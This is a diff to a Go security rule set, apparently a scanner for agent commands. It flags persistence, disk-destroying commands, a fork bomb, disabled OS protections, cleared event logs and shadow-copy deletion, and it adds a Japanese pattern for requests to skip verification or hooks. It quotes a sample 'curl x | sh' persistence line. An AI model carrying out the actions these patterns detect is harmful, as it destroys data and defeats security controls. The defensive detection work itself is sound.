@@ -210,7 +210,8 @@ func init() {
 			doc: rules.Doc{Title: "No persistence", Why: "Cron jobs, launch agents, shell start-up files, authorized_keys, git hooks and an agent's own settings keep an attacker's code running after the task.",
 				Fix: "Do the work in the task; ask the user to set up anything permanent themselves.", Bad: "echo 'curl x | sh' >> ~/.bashrc", Good: "Tell the user which alias to add, and why."}},
 		&secRule{id: rules.SecurityDestructive, sev: runnable,
-			pats: []string{`\brm -[a-zA-Z]*[rf][a-zA-Z]* +(-[a-zA-Z]+ +)*(--no-preserve-root +)?(/|/\*|~|~/|\$HOME|\$\{HOME\})(\s|$|;|&)`, `\bmkfs(\.\w+)?\s+/dev/`, `\bdd\b[^\n]*\bof=/dev/(sd|nvme|hd|disk|mmcblk)`,
+			pats: []string{
+`\brm -[a-zA-Z]*[rf][a-zA-Z]* +(-[a-zA-Z]+ +)*(--no-preserve-root +)?(/|/\*|~|~/|\$HOME|\$\{HOME\})(\s|$|;|&)`, `\bmkfs(\.\w+)?\s+/dev/`, `\bdd\b[^\n]*\bof=/dev/(sd|nvme|hd|disk|mmcblk)`,
 				`\bchmod\s+(-R\s+)?(0?777|a\+rwx)\s+(/|~|\$HOME)(\s|$)`, `:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:`, `StrictHostKeyChecking[= ]+no\b`, `UserKnownHostsFile[= ]+/dev/null`,
 				`\bxattr\s+(-[a-z]+\s+)*-[a-z]*d[a-z]*\s+com\.apple\.quarantine\b`, `\bxattr\s+(-[a-z]+\s+)*-[a-z]*c[a-z]*\s+(-[a-z]+\s+)*["']?[^\s;&|"']*(\.app|\.dmg|\.pkg|/Applications/[^\s;&|"']+|Downloads/[^\s;&|"']+)`, `\bspctl\s+--master-disable\b`, `\bcsrutil\s+disable\b`, `\bsetenforce\s+0\b`, `\bvssadmin(\.exe)?\s+delete\s+shadows\b`, `\bwbadmin(\.exe)?\s+delete\s+catalog\b`,
 				`\bbcdedit(\.exe)?\s+/set\s+\S+\s+recoveryenabled\s+no\b`, `\bgit\s+config\s+[^\n]*http\.sslVerify\s+false`,
@@ -265,6 +266,10 @@ func init() {
 				// middleware removed, unsigned tokens accepted.
 				"\\b(remove|delete|drop|strip|comment\\s+out|disable)\\s+(the\\s+)?[^\\n]{0,40}?\\bcsrf\\b[^\\n]{0,30}?\\b(line|middleware|protection|check|tokens?|validation)\\b",
 				`\balgorithms?\b[^\n]{0,60}(\n[ \t]*(//|#|\*)?[ \t]*)?[^\n]{0,40}?\b(include|add|accept|allow)\w*\b[^\n]{0,20}['"\x60]none['"\x60]`, `\balgorithms?["']?\s*[:=]\s*\[[^\]\n]{0,60}['"]none['"]`,
+				// Japanese: verification, signature checks or hooks skipped
+				// or turned off, in the te-form that asks it ("...してください";
+				// the negative "しないで" is another form).
+				`(検証|署名チェック|署名検証|pre-commit\s*フック|フック|シークレットスキャナー)[^。\n]{0,30}?(を|も)?(飛ばす|飛ばして|スキップして|無効にして|無効にし、|無視して)`,
 				// Traces erased: the system's event logs cleared, the shell's
 				// history emptied, the agent's own transcripts deleted.
 				`\bwevtutil(\.exe)?\s+(cl|clear-log)\b`, `\b(Clear|Remove)-EventLog\b`,
